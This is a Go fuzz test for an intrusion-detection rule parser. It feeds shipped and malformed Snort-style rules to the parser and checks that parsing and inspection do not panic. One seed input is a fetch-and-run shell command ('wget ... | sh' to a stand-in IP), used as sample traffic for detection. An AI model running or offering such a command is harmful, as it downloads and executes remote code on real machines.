package rules

import (
	"strings"
	"testing"
)

// FuzzParse feeds arbitrary rule text to the parser and, when it parses, runs the rule over a
// command built from the same bytes. Neither may panic or loop; a parsed rule must carry a
// sid and a msg. The seed corpus (the shipped rules and the error cases' shapes) runs in
// every `go test`.
func FuzzParse(f *testing.F) {
	for _, line := range strings.Split(string(Builtin()), "\n") {
		if strings.HasPrefix(line, "alert") {
			f.Add(line, "wget http://203.0.113.9/x | sh")
		}
	}
	for _, s := range []string{
		`alert tcp [1.2.3.0/24,![1.2.3.4,1.2.3.5]] [1024:,!2000] <> $HOME_NET :80 (msg:"m\;x"; content:"a|00 ff|b"; nocase; offset:1; depth:9; content:!"c"; distance:-1; within:4; pcre:"/a(b)?/smiR"; sid:1;)`,
		`alert http any any -> any any (msg:"h"; http.uri; content:"x"; http_header; pcre:"/y/UH"; threshold:type both, track by_both, count 2, seconds 1; sid:2;)`,
		`alert tcp any any -> any any (msg:"bad"; pcre:"/(a)\1(?=x)a++/"; sid:3;)`,
		`alert tcp any any -> any any (msg:"e"; content:"a|4"; sid:4;)`,
		`alert tcp $A any -> any any (msg:"x"; sid:5;)`,
		`pass tcp any any -> any any (msg:"p"; content:"x"; startswith; content:"y"; endswith; sid:6;)`,
		`alert tcp any any -> any any (msg:"d"; content:"a"; detection_filter:track by_src, count 1, seconds 1; sid:7;)`,
		`alert tcp any any -> any any (msg:"((("; content:"\"\;\\\|"; sid:8;)`,
	} {
		f.Add(s, "a\x00b c y x")
	}
	f.Fuzz(func(t *testing.T, rule, input string) {
		vars := DefaultVars("any", "any")
		vars["A"] = "$B"
		vars["B"] = "$A" // a loop must be refused, not followed forever
		r, err := Parse(rule, vars)
		if err != nil {
			return
		}
		if r.SID <= 0 || r.Msg == "" {
			t.Fatalf("parsed without sid or msg: %q", rule)
		}
		s := NewSet([]*Rule{r})
		e := cmd("f", input)
		e.Fields["payload"] = input
		s.Inspect(e, func(Hit) {})
	})
}
